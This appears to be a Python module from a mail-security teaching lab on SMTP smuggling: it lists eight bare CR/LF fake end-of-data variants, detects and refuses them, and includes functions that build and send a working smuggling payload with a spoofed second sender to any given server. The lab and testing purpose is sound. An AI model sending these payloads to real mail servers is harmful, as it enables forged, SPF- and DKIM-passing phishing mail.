"""SMTP smuggling: fake ends of data made of bare CR and LF, and the rule that stops them.

After DATA, a message ends with a line holding a single period: the octets
CR LF . CR LF (RFC 5321 section 4.1.1.4). SMTP lines end only with CR LF; a CR or LF on
its own ("bare") is no line end, and a conforming implementation must not read one as
such (RFC 5321 section 2.3.8). Servers that were lenient about it disagree with strict
ones on where a message ends. The SMTP smuggling disclosures of 2023-24 (SEC Consult,
then CVE-2023-51764 for Postfix, CVE-2023-51765 for Sendmail, CVE-2023-51766 for Exim)
used that: a relay that passes ``<LF>.<CR><LF>`` through as part of one message hands it
to a receiver that reads it as the end; what follows, a second MAIL FROM, RCPT TO, DATA
and message, becomes a second message the relay never sent, with the relay's SPF and
DKIM standing behind it.

:data:`VARIANTS` lists the fake ends (each an :class:`EndOfDataVariant`: name, exact
octets, what a lenient server does, the RFC rule). :func:`bare_line_end` finds the first
bare CR or LF in message content, and :func:`refusal_reply` is the 554 the lab's mail
server (every role, :mod:`labsupport.mail.server_handler`) gives such a message, storing
nothing and keeping the session. :func:`send_variant` sends one variant with a smuggled
second message through the transcript client and returns a :class:`SmugglingResult`
(what was sent, what the server replied, how many messages it stored);
:func:`send_every_variant` runs them all and returns a :class:`SmugglingSurvey`, a table.

For the SMTP smuggling lesson after the capstone (issue 13).
"""

from __future__ import annotations

import html
import re
from dataclasses import dataclass
from typing import Any, ClassVar, Protocol

from ..core.results import Result, TraceBuilder, html_table, text_table
from .smtp_replies import Reply, SMTPClientError, SMTPUsageError
from .smtp_session import SMTPSession
from .smtp_transcript import Transcript

#: The rule on line ends: only CR LF ends a line, and a bare CR or LF is never one.
RFC_LINES = "RFC 5321 section 2.3.8"
#: The rule on the end of the message: a line with a single period, CR LF . CR LF.
RFC_END_OF_DATA = "RFC 5321 section 4.1.1.4"
#: Transparency: a line of content starting with "." gets one more in front.
RFC_TRANSPARENCY = "RFC 5321 section 4.5.2"
#: The one end of data (the first CR LF ends the message's last line).
END_OF_DATA = b"\r\n.\r\n"
#: The reply to a message with a bare CR or LF: 554 "transaction failed" (RFC 5321
#: section 4.2.2) with the enhanced code X.5.2 "syntax error" (RFC 3463), as Postfix's
#: smtpd_forbid_bare_newline answers (there with 521, closing the connection).
REFUSAL_CODE = "554 5.5.2"

#: A bare CR (not followed by LF) or a bare LF (not preceded by CR).
_BARE = re.compile(rb"\r(?!\n)|(?<!\r)\n")
_NAMES = {b"\r": "CR", b"\n": "LF"}
_SPELLED = {"CR": "a bare CR (carriage return without line feed)",
            "LF": "a bare LF (line feed without carriage return)"}


# -- the rule ----------------------------------------------------------------------------


@dataclass(frozen=True)
class BareLineEnd:
    """Where message content has its first bare CR or LF: ``char`` is ``"CR"`` or
    ``"LF"``, ``offset`` counts octets from 0, ``line`` counts CR LF lines from 1."""

    char: str
    offset: int
    line: int

    def describe(self) -> str:
        return f"{_SPELLED[self.char]} in line {self.line} (octet {self.offset})"


def bare_line_end(content: bytes) -> BareLineEnd | None:
    """The first CR without LF after it, or LF without CR before it, in ``content``
    (RFC 5321 section 2.3.8); None when every CR and LF belong to a CR LF pair.

    >>> bare_line_end(b"Hi\\r\\nthere\\n.\\n")
    BareLineEnd(char='LF', offset=9, line=2)
    >>> bare_line_end(b"Hi\\r\\n") is None
    True
    """
    found = _BARE.search(content)
    if found is None:
        return None
    offset = found.start()
    return BareLineEnd(_NAMES[found.group()], offset, content.count(b"\r\n", 0, offset) + 1)


def refusal_reply(found: BareLineEnd) -> str:
    """The lab server's reply to a message with a bare CR or LF (one line, under the
    512 octets of RFC 5321 section 4.5.3.1.5)."""
    return (f"{REFUSAL_CODE} Message refused: {_SPELLED[found.char]} in line {found.line}; "
            "SMTP lines end only with CRLF, and only CRLF.CRLF ends the data (RFC 5321 "
            "sections 2.3.8 and 4.1.1.4). A bare CR or LF can fake an end of data to a "
            "lenient server (SMTP smuggling); the message was not stored")


# -- the variants ------------------------------------------------------------------------


@dataclass(frozen=True)
class EndOfDataVariant:
    """A fake end of data: ``ending`` replaces the CR LF . CR LF that would end the
    message; ``lenient`` says what a server that accepts it does, ``rfc`` which rule it
    breaks."""

    name: str
    ending: bytes
    lenient: str
    rfc: str = f"{RFC_LINES}; {RFC_END_OF_DATA}"

    @property
    def shown(self) -> str:
        """The octets spelled out: ``<LF>.<CR><LF>``."""
        return spelled(self.ending)


VARIANTS: tuple[EndOfDataVariant, ...] = (
    EndOfDataVariant(
        "LF.LF", b"\n.\n",
        "reads bare LF as a line end (the Unix newline), so '.' alone on a line ends the "
        "message: the smuggled commands run as commands"),
    EndOfDataVariant(
        "LF.CRLF", b"\n.\r\n",
        "ends the message at '.' CR LF after a bare LF: the variant of the 2023 "
        "disclosure (Postfix CVE-2023-51764, Sendmail CVE-2023-51765, Exim CVE-2023-51766)"),
    EndOfDataVariant(
        "CRLF.LF", b"\r\n.\n",
        "takes a '.' line ended by a bare LF as the end of data"),
    EndOfDataVariant(
        "CR.CR", b"\r.\r",
        "reads bare CR as a line end (old Mac text), or turns bare CR into CR LF before "
        "looking for the end, as gateways that 'clean' line ends do"),
    EndOfDataVariant(
        "CR.LF", b"\r.\n",
        "reads any CR or LF as a line end, so this '.' line ends the data"),
    EndOfDataVariant(
        "CRLF.CR", b"\r\n.\r",
        "takes a '.' line ended by a bare CR as the end of data"),
    EndOfDataVariant(
        "LF.CR", b"\n.\r",
        "reads bare LF and bare CR as line ends, so this '.' line ends the data"),
    EndOfDataVariant(
        "CR.CRLF", b"\r.\r\n",
        "ends the message at '.' CR LF after a bare CR"),
)


def spelled(data: bytes) -> str:
    """Octets with CR and LF spelled out, ``b"\\n.\\r\\n"`` as ``<LF>.<CR><LF>``."""
    text = data.decode("utf-8", "replace")
    return text.replace("\r", "<CR>").replace("\n", "<LF>")


def variant(name: str | EndOfDataVariant) -> EndOfDataVariant:
    """The variant called ``name`` (``"LF.LF"``, ...; case and ``<>`` do not matter)."""
    if isinstance(name, EndOfDataVariant):
        return name
    key = name.upper().replace("<", "").replace(">", "").replace(" ", "")
    for each in VARIANTS:
        if each.name == key or each.shown.replace("<", "").replace(">", "") == key:
            return each
    raise SMTPUsageError(f"no end-of-data variant {name!r}; the variants are "
                         + ", ".join(v.name for v in VARIANTS))


def smuggling_payload(chosen: str | EndOfDataVariant, *, mail_from: str, rcpt_to: str,
                      smuggled_from: str) -> bytes:
    """What the client sends after 354: a first message, the fake end, a smuggled MAIL
    FROM, RCPT TO, DATA and second message, then the real CR LF . CR LF."""
    chosen = variant(chosen)
    first = (f"From: <{mail_from}>\r\nTo: <{rcpt_to}>\r\n"
             f"Subject: smuggling test ({chosen.name}): the first message\r\n\r\n"
             "The sending server sees this one message and nothing after it.")
    smuggled = (f"MAIL FROM:<{smuggled_from}>\r\nRCPT TO:<{rcpt_to}>\r\nDATA\r\n"
                f"From: <{smuggled_from}>\r\nTo: <{rcpt_to}>\r\n"
                f"Subject: smuggling test ({chosen.name}): the smuggled message\r\n\r\n"
                "A lenient receiver takes this as a second message.\r\n")
    return first.encode() + chosen.ending + smuggled.encode() + b".\r\n"


# -- sending a variant -------------------------------------------------------------------


class MessageCounter(Protocol):
    """What counts stored messages: :class:`~labsupport.mail.mailstore.MailStore`."""

    def count(self, address: str | None = None) -> int: ...


@dataclass(frozen=True, kw_only=True)
class SmugglingResult(Result):
    """One variant sent to one server. ``verdict``: ``"refused"`` (a 5yz for the whole
    payload and nothing stored: the server is safe), ``"smuggled"`` (it answered the
    smuggled commands or stored two messages), ``"accepted"`` (one message, bare line
    ends and all: safe here, but a relay would pass them on), ``"deferred"`` (4yz) or
    ``"failed"`` (the dialogue broke before or while sending)."""

    variant: EndOfDataVariant
    host: str
    port: int
    reply: Reply | None = None
    extra_replies: tuple[Reply, ...] = ()
    stored: int | None = None
    follow_up: Reply | None = None
    follow_up_stored: int | None = None
    transcript: Transcript | None = None

    def title(self) -> str:
        return f"SMTP smuggling with {self.variant.shown} against {self.host}:{self.port}: " \
               f"{self.verdict}"

    def dialogue(self) -> str:
        """The SMTP dialogue, swaks style (bare CR and LF spelled out)."""
        return self.transcript.dialogue() if self.transcript is not None else ""

    def _repr_html_(self) -> str:
        page = super()._repr_html_()
        if self.transcript is None:
            return page
        return (page[:-len("</div>")] + "<details><summary>the dialogue</summary>"
                f"{self.transcript._repr_html_()}</details></div>")

    def row(self) -> list[object]:
        """One row of :class:`SmugglingSurvey`."""
        reply = self.reply.first_line if self.reply else "-"
        if len(reply) > 48:
            reply = reply[:47] + "…"
        after = "-"
        if self.follow_up is not None:
            after = self.follow_up.first_line[:9]
            if self.follow_up_stored is not None:
                after += f" (stored {self.follow_up_stored})"
        return [self.variant.name, self.variant.shown, reply, len(self.extra_replies),
                "-" if self.stored is None else self.stored, after, self.verdict]


def send_variant(host: str, port: int, chosen: str | EndOfDataVariant, *,
                 mail_from: str = "mallory@phisher.example",
                 rcpt_to: str = "carol@campus.test",
                 smuggled_from: str = "alice@northwind.test",
                 store: MessageCounter | None = None, starttls: bool = False,
                 implicit_tls: bool = False, auth: tuple[str, str] | None = None,
                 ca_file: str | None = None, ehlo: str = "client.lab.test",
                 follow_up: bool = True, settle: float = 0.2,
                 timeout: float = 10.0) -> SmugglingResult:
    """Send ``chosen`` (a variant or its name) with a smuggled second message and say
    what the server made of it.

    The client greets (STARTTLS when ``starttls``, TLS first when ``implicit_tls``, AUTH
    PLAIN when ``auth=(user, password)``), sends MAIL FROM ``mail_from``, RCPT TO
    ``rcpt_to`` and DATA, then :func:`smuggling_payload` in one write: the transcript
    client refuses to send a bare CR or LF, so these octets go round it. It reads the
    reply, then any more that come within ``settle`` seconds (a lenient server answers
    the smuggled MAIL, RCPT, DATA and second message: four more). ``store`` (the lab's
    mailboxes, ``lab.mail``) counts what was stored for ``rcpt_to``; that is final
    delivery, so it counts on the MX role, not where mail is queued. With ``follow_up``
    a correct message follows on the same connection, to show the session still works.
    """
    chosen = variant(chosen)
    session = SMTPSession(host, port, implicit_tls=implicit_tls, ca_file=ca_file,
                          timeout=timeout)
    trace = TraceBuilder()
    trace.add(f"variant {chosen.name}: {chosen.shown} ({chosen.ending!r}) where "
              "<CR><LF>.<CR><LF> would end the message", kind="info", rfc=chosen.rfc)
    trace.add(f"a lenient server {chosen.lenient}", kind="info")
    reply: Reply | None = None
    extra: tuple[Reply, ...] = ()
    stored: int | None = None
    after: tuple[Reply | None, int | None] = (None, None)
    try:
        _prepare(session, starttls=starttls, auth=auth, ehlo=ehlo, mail_from=mail_from,
                 rcpt_to=rcpt_to)
        before = store.count(rcpt_to) if store is not None else 0
        payload = smuggling_payload(chosen, mail_from=mail_from, rcpt_to=rcpt_to,
                                    smuggled_from=smuggled_from)
        trace.add(f"sent after 354, in one write: a first message, {chosen.shown}, a smuggled "
                  f"MAIL FROM:<{smuggled_from}>, RCPT TO:<{rcpt_to}>, DATA and second "
                  "message, then the real <CR><LF>.<CR><LF>", kind="query",
                  detail=_rows(payload))
        reply = _send_raw(session, payload)
        extra = tuple(_more_replies(session, settle))
        stored = store.count(rcpt_to) - before if store is not None else None
        _explain(trace, reply, extra, stored, rcpt_to, settle)
        if follow_up and session.connected:
            after = _follow_up(session, trace, chosen, mail_from, rcpt_to, store)
        verdict, summary = _verdict(chosen, reply, extra, stored)
    except SMTPClientError as exc:
        verdict, summary = "failed", f"The variant could not be tried: {exc}."
        trace.add(summary, kind="error")
    finally:
        if session.connected:
            try:
                session.quit()
            except SMTPClientError:
                pass
        session.close()
    return SmugglingResult(verdict=verdict, summary=summary, trace=trace.freeze(),
                           variant=chosen, host=host, port=int(port), reply=reply,
                           extra_replies=extra, stored=stored, follow_up=after[0],
                           follow_up_stored=after[1], transcript=session.transcript)


class _Refused(SMTPClientError):
    """Internal: the dialogue before DATA was refused."""


def _prepare(session: SMTPSession, *, starttls: bool, auth: tuple[str, str] | None,
             ehlo: str, mail_from: str, rcpt_to: str) -> None:
    """Connect, greet, STARTTLS, AUTH, MAIL, RCPT and DATA, each needing its 2yz/354."""

    def expect(stage: str, reply: Reply, code: int | None = None) -> None:
        good = reply.code == code if code is not None else reply.is_positive
        if not good:
            raise _Refused(f"the server refused {stage} with {reply.first_line}, so the "
                           "variant was not sent")

    expect("the connection", session.connect())
    expect("EHLO", session.ehlo(ehlo))
    if starttls:
        expect("STARTTLS", session.starttls())
        expect("EHLO after STARTTLS", session.ehlo(ehlo))
    if auth is not None:
        if not session.tls_active:
            raise SMTPUsageError("AUTH needs TLS here: pass starttls=True or implicit_tls=True")
        expect("AUTH PLAIN", session.auth_plain(*auth))
    expect("MAIL FROM", session.mail(mail_from))
    expect("RCPT TO", session.rcpt(rcpt_to))
    expect("DATA", session.send("DATA"), 354)


def _send_raw(session: SMTPSession, payload: bytes) -> Reply:
    """After 354: send ``payload`` exactly (no line-end repair, no dot-stuffing; the
    transcript shows it row by row with bare CR and LF spelled out), and read the reply."""
    session.send_raw(payload, what="the message content with a fake end of data")
    session.note("the lines above are CRLF-terminated rows; <CR> and <LF> are bare octets")
    reply = session.read_reply()
    assert reply is not None  # without a wait, a reply or an SMTPClientError
    return reply


def _rows(payload: bytes) -> str:
    """The payload as rows split at CR LF, bare CR and LF spelled out."""
    return "\n".join(spelled(row) for row in payload.split(b"\r\n")[:-1])


#: What a server that took the fake end answers besides the first message: the smuggled
#: MAIL FROM, RCPT TO, DATA (354) and second message.
_SMUGGLED_REPLIES = 4


def _more_replies(session: SMTPSession, settle: float) -> list[Reply]:
    """Replies that arrive unasked, each within ``settle`` seconds of the one before (at
    most the four answers to the smuggled transaction)."""
    found: list[Reply] = []
    while session.connected and len(found) < _SMUGGLED_REPLIES:
        try:
            reply = session.read_reply(wait=settle)
        except SMTPClientError:
            break
        if reply is None:
            break
        found.append(reply)
    return found


def _explain(trace: TraceBuilder, reply: Reply, extra: tuple[Reply, ...], stored: int | None,
             rcpt_to: str, settle: float) -> None:
    kind = "ok" if reply.is_permanent else ("warning" if reply.is_positive else "info")
    trace.add(f"the server replied: {reply.first_line}", kind=kind, rfc=RFC_LINES)
    if extra:
        trace.add(f"{len(extra)} more repl{'ies' if len(extra) != 1 else 'y'} followed, "
                  "answers to the smuggled commands: "
                  + "; ".join(r.first_line for r in extra), kind="error", rfc=RFC_END_OF_DATA)
    else:
        trace.add(f"no more replies within {settle:g} s: the server read the smuggled "
                  "commands as message content, not as commands", kind="ok")
    if stored is not None:
        trace.add(f"messages stored for {rcpt_to} by this attempt: {stored}",
                  kind="ok" if stored == 0 else ("warning" if stored == 1 else "error"))


def _follow_up(session: SMTPSession, trace: TraceBuilder, chosen: EndOfDataVariant,
               mail_from: str, rcpt_to: str, store: MessageCounter | None
               ) -> tuple[Reply, int | None]:
    """A correct message on the same connection; what the server did with it."""
    before = store.count(rcpt_to) if store is not None else 0
    message = (f"From: <{mail_from}>\r\nTo: <{rcpt_to}>\r\n"
               f"Subject: smuggling test ({chosen.name}): a correct message after it\r\n\r\n"
               "Every line ends with CRLF, and only CRLF.CRLF ends the data.\r\n")
    replies = [session.rset(), session.mail(mail_from)]
    if replies[-1].is_positive:
        replies.append(session.rcpt(rcpt_to))
    if replies[-1].is_positive:
        replies.append(session.data(message))
    last = replies[-1]
    stored = store.count(rcpt_to) - before if store is not None else None
    after = f"; stored: {stored}" if stored is not None else ""
    trace.add(f"then a correct message on the same connection: {last.first_line}{after}",
              kind="ok" if last.is_positive else "warning", rfc=RFC_END_OF_DATA)
    return last, stored


def _verdict(chosen: EndOfDataVariant, reply: Reply, extra: tuple[Reply, ...],
             stored: int | None) -> tuple[str, str]:
    if extra or (stored is not None and stored >= 2):
        count = f", and stored {stored} messages" if stored is not None else ""
        return "smuggled", (f"The server took {chosen.shown} as the end of data and answered "
                            f"the smuggled commands{count}: a second message the sender "
                            "never sent could get in.")
    if reply.is_permanent and not stored:
        kept = " and stored nothing" if stored == 0 else ""
        return "refused", (f"The server refused the whole message with {reply.code}{kept}: "
                           f"{chosen.shown} did not end the data, and the bare line end made "
                           "the message unacceptable (RFC 5321 section 2.3.8).")
    if reply.is_positive or stored:
        return "accepted", (f"The server read up to the real <CR><LF>.<CR><LF> and kept one "
                            f"message, {chosen.shown} and all ({reply.first_line}): not "
                            "smuggled here, but as a relay it would pass the bare line ends "
                            "on to a server that may be lenient.")
    if reply.is_transient:
        return "deferred", f"The server deferred the message ({reply.first_line})."
    return "failed", f"An unexpected reply to the message: {reply.first_line}."


# -- every variant -----------------------------------------------------------------------


@dataclass(frozen=True, kw_only=True)
class SmugglingSurvey(Result):
    """Every variant against one server, as a table (``str()`` and ``_repr_html_``).

    ``verdict``: ``"safe"`` (every variant refused), ``"vulnerable"`` (at least one
    smuggled), ``"lenient"`` (none smuggled, some accepted with their bare line ends)
    or ``"incomplete"`` (some could not be tried)."""

    host: str
    port: int
    results: tuple[SmugglingResult, ...] = ()

    HEADERS: ClassVar[tuple[str, ...]] = ("variant", "octets", "reply", "more replies", "stored",
               "then a correct message", "verdict")

    def title(self) -> str:
        return f"SMTP smuggling survey of {self.host}:{self.port}: {self.verdict}"

    def rows(self) -> list[list[object]]:
        return [r.row() for r in self.results]

    def text(self) -> str:
        lines = [self.title(), f"  {self.summary}", ""]
        lines += text_table(list(self.HEADERS), self.rows()).splitlines()
        return "\n".join(lines)

    def _repr_html_(self) -> str:
        details = "".join(f"<details><summary>{html.escape(r.variant.shown)}: "
                          f"{html.escape(r.verdict)}</summary>{r._repr_html_()}</details>"
                          for r in self.results)
        return ('<div style="border-left:4px solid #888;padding-left:8px">'
                f"<b>{html.escape(self.title())}</b><br>{html.escape(self.summary)}"
                f"{html_table(list(self.HEADERS), self.rows())}{details}</div>")


def send_every_variant(host: str, port: int, *, variants: tuple[EndOfDataVariant, ...] =
                       VARIANTS, **options: Any) -> SmugglingSurvey:
    """:func:`send_variant` for each of ``variants``, each on its own connection (with
    the same ``options``), gathered in a :class:`SmugglingSurvey`."""
    results = tuple(send_variant(host, port, each, **options) for each in variants)
    verdicts = [r.verdict for r in results]
    names = {v: ", ".join(r.variant.name for r in results if r.verdict == v)
             for v in set(verdicts)}
    if "smuggled" in verdicts:
        verdict = "vulnerable"
        summary = (f"Smuggled through: {names['smuggled']}. This server ends data at something "
                   "other than <CR><LF>.<CR><LF>.")
    elif any(v in ("failed", "deferred") for v in verdicts):
        verdict = "incomplete"
        summary = "Some variants could not be tried: " + ", ".join(
            names[v] for v in ("failed", "deferred") if v in names) + "."
    elif "accepted" in verdicts:
        verdict = "lenient"
        summary = (f"Nothing smuggled, but accepted with bare line ends: {names['accepted']}; "
                   "as a relay this server would pass them on.")
    else:
        verdict = "safe"
        summary = (f"All {len(results)} variants refused, nothing smuggled: only "
                   "<CR><LF>.<CR><LF> ends the data, and a bare CR or LF is refused "
                   "(RFC 5321 sections 2.3.8 and 4.1.1.4).")
    return SmugglingSurvey(verdict=verdict, summary=summary, host=host, port=int(port),
                           results=results)


__all__ = [
    "END_OF_DATA", "REFUSAL_CODE", "VARIANTS", "BareLineEnd", "EndOfDataVariant",
    "SmugglingResult", "SmugglingSurvey", "bare_line_end", "refusal_reply",
    "send_every_variant", "send_variant", "smuggling_payload", "spelled", "variant",
]
